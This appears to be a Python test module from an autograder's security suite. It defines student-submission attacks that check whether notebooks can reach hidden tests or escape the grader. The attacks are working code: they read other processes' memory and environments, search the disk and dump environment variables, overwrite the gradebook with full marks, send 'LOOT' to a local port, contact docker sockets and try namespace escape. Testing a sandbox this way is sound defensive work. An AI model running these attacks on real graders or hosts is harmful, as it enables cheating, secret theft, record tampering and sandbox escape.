"""Look for what is hidden: tests, expected values, files, memory, neighbours.

What an attack finds it prints: an output that holds a planted marker is proof.
"""

from tests.autograde.attacks import Submission, attack

_GREP = """
import os
def grep(root, limit=4000):
    seen = 0
    for folder, _, names in os.walk(root):
        for name in names:
            seen += 1
            if seen > limit:
                return
            path = os.path.join(folder, name)
            try:
                if os.path.getsize(path) > 5_000_000:
                    continue
                text = open(path, 'rb').read()
            except OSError:
                continue
            for part in (b'MARKER-', b'918273645'):
                at = text.find(part)
                if at >= 0:
                    print(path, text[max(0, at - 40):at + 60])
"""


@attack(stock="reads")
def pre_run_cell_hook(sub: Submission):
    """A `pre_run_cell` hook prints the source of every later cell, tests included."""
    sub.first(
        """
        seen = []
        get_ipython().events.register('pre_run_cell', lambda info: seen.append(info.raw_cell))
        """
    )
    sub.last("print(seen)")


@attack(stock="reads")
def history_read_back(sub: Submission):
    """IPython keeps the source of every cell it ran in `In`."""
    sub.last("print(In)")


@attack(deserves=3, stock="reads")
def frames_of_the_caller(sub: Submission):
    """A tested function looks up the stack and keeps the caller's source."""
    sub.answer(
        "double",
        """
        import inspect, sys
        seen = []
        def double(x):
            frame = sys._getframe(1)
            while frame is not None:
                try:
                    seen.append(inspect.getsource(frame)[:2000])
                except Exception as error:
                    seen.append(str(error))
                frame = frame.f_back
            return 2 * x
        """,
    )
    sub.last("print(seen)")


@attack(stock="reads")
def garbage_collector_searched(sub: Submission):
    """Search every object in the process for the hidden tests."""
    sub.last(
        """
        import gc
        for item in gc.get_objects():
            try:
                text = repr(item) if isinstance(item, (dict, list, tuple)) and len(item) < 2000 else ''
            except Exception:
                continue
            at = text.find('MARKER-' + 'HIDDEN')
            if at >= 0:
                print(text[max(0, at - 50):at + 100])
        """
    )


@attack(stock="reads")
def source_folder_read(sub: Submission):
    """Walk up from the working folder into source/, the gradebook and the keys."""
    sub.last(
        _GREP
        + """
here = os.getcwd()
for _ in range(6):
    here = os.path.dirname(here)
    if here != '/':
        grep(here)
"""
    )


@attack()
def whole_disk_read(sub: Submission):
    """The same from the usual places of a home, a server and a container."""
    sub.last(
        _GREP
        + "\nfor root in ('/home', '/root', '/srv', '/var', '/mnt', '/opt', '/tmp'):\n    grep(root)"
    )


@attack(stock="reads")
def environment_read(sub: Submission):
    """Print the environment: tokens and paths of whoever started the grader."""
    sub.last("import os\nprint(dict(os.environ))")


@attack(stock="reads")
def proc_of_other_processes(sub: Submission):
    """Read environment and command line of every process under /proc."""
    sub.last(
        """
        import glob
        for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):
            try:
                text = open(path, 'rb').read()
            except OSError:
                continue
            at = text.find(b'MARKER-')
            if at >= 0:
                print(path, text[at:at + 60])
        """
    )


@attack()
def memory_of_other_processes(sub: Submission):
    """Read the memory of every process that /proc/PID/mem or process_vm_readv opens."""
    sub.last(
        """
        import glob, os
        for maps in glob.glob('/proc/[0-9]*/maps'):
            pid = maps.split('/')[2]
            if pid == str(os.getpid()):
                continue
            try:
                lines = open(maps).read().splitlines()
                mem = open(f'/proc/{pid}/mem', 'rb')
            except OSError:
                continue
            for line in lines[:200]:
                span, mode = line.split()[:2]
                low, high = (int(part, 16) for part in span.split('-'))
                if 'r' not in mode or high - low > 50_000_000:
                    continue
                try:
                    mem.seek(low)
                    text = mem.read(high - low)
                except (OSError, ValueError, OverflowError):
                    continue
                at = text.find(b'MARKER-' + b'HIDDEN')
                if at >= 0:
                    print(pid, text[at:at + 60])
        """
    )


@attack()
def own_memory_searched(sub: Submission):
    """Read one's own memory for tests left behind by a shared or warm process."""
    sub.last(
        """
        needle = ''.join(['MARKER', '-HIDDEN', '-SOURCE']).encode()
        wide = ''.join(['MARKER', '-HIDDEN', '-SOURCE']).encode('utf-16-le')
        found = 0
        for line in open('/proc/self/maps'):
            span, mode = line.split()[:2]
            low, high = (int(part, 16) for part in span.split('-'))
            if mode[0] != 'r' or high - low > 200_000_000:
                continue
            try:
                with open('/proc/self/mem', 'rb') as mem:
                    mem.seek(low)
                    text = mem.read(high - low)
            except (OSError, ValueError, OverflowError):
                continue
            at = text.find(needle + b'-51')
            if at >= 0:
                print(text[at:at + 40])
        """
    )


@attack()
def inherited_descriptors(sub: Submission):
    """Read whatever file or socket the grader left open."""
    sub.last(
        """
        import os
        for fd in range(3, 256):
            try:
                os.lseek(fd, 0, 0)
                print(fd, os.read(fd, 100000).find(b'MARKER-'), os.pread(fd, 100000, 0))
            except OSError:
                continue
        """
    )


@attack(stock="reads")
def other_submission_read(sub: Submission):
    """Read a neighbour's answers from the submitted folder."""
    sub.last(
        _GREP
        + """
for root in ('../..', '../../..', '../../../submitted'):
    grep(root)
"""
    )


@attack(stock="reads")
def instructor_module_imported(sub: Submission):
    """Import the instructor's own package and print the keys it holds."""
    sub.last(
        """
        import pathlib
        try:
            import autograde
            root = pathlib.Path(autograde.__file__).parent
            for path in [*root.glob('keys/*'), *root.glob('../source/*/*'), *root.glob('../tests/**/*.py')]:
                text = path.read_text(errors='ignore') if path.is_file() else ''
                if 'key' in path.name or 'MARKER-' in text:
                    print(path, 'MARKER-INSTRUCTOR' + '-FILE-77d1' if 'keys' in str(path) else text[:2000])
        except ImportError as error:
            print(error)
        """
    )


@attack(stock="changes")
def gradebook_written(sub: Submission):
    """Open the gradebook with sqlite and give everybody full marks."""
    sub.first(
        """
        import glob, os, sqlite3
        here = os.getcwd()
        for _ in range(7):
            for path in glob.glob(here + '/*.db') + glob.glob(here + '/*/*.db'):
                with sqlite3.connect(path, timeout=1) as db:
                    db.execute("update grade set manual_score = 10, auto_score = 10")
                    db.execute("update student set first_name = 'OWNED'")
            here = os.path.dirname(here)
        """
    )


@attack(stock="changes")
def files_outside_written(sub: Submission):
    """Leave a file in every folder up to the course; where no course is in sight, up to
    the root, and in home."""
    sub.first(
        """
        import os, pathlib
        above = list(pathlib.Path.cwd().parents)
        course = [at for at, folder in enumerate(above) if (folder / 'nbgrader_config.py').exists()]
        folders = above[:course[0] + 1] if course else [*above, pathlib.Path.home(), pathlib.Path('/var/tmp')]
        for folder in folders:
            for name in ('OWNED.txt', 'source/OWNED.txt', 'submitted/OWNED.txt'):
                try:
                    (folder / name).write_text('owned')
                except OSError:
                    pass
        """
    )


@attack()
def network_reached(sub: Submission):
    """Connect to a server on this machine and send out what was found."""
    sub.first(
        """
        import os, socket
        for host, port in [('127.0.0.1', int(p)) for p in open('port.txt').read().split()]:
            try:
                with socket.create_connection((host, port), timeout=1) as out:
                    out.sendall(b'LOOT')
                print('CONNECTED')
            except OSError as error:
                print(error)
        """
    )
    sub.files["port.txt"] = b"@PORT@"


@attack()
def unix_sockets_reached(sub: Submission):
    """Look for unix sockets (agents, containers, X, D-Bus) and talk to them."""
    sub.last(
        """
        import socket
        for path in ('/var/run/docker.sock', '/run/dbus/system_bus_socket', '/tmp/.X11-unix/X0'):
            with socket.socket(socket.AF_UNIX) as s:
                try:
                    s.connect(path)
                    print('CONNECTED', path)
                except OSError as error:
                    print(error)
        """
    )


@attack()
def namespaces_left(sub: Submission):
    """Leave the box: unshare, setns, mount, chroot, pivot_root, ptrace."""
    sub.last(
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        print('unshare', libc.unshare(0x10000000), 'mount', libc.mount(b'none', b'/tmp', b'tmpfs', 0, None))
        print('chroot', libc.chroot(b'/tmp'), 'ptrace', libc.ptrace(16, 1, 0, 0))
        if libc.unshare(0x10000000) == 0 or libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0:
            print('ESCAPED')
        for ns in ('mnt', 'pid', 'net', 'user'):
            try:
                os.setns(os.open(f'/proc/1/ns/{ns}', os.O_RDONLY), 0)
                print('ESCAPED', ns)
            except (OSError, AttributeError) as error:
                print(error)
        """
    )
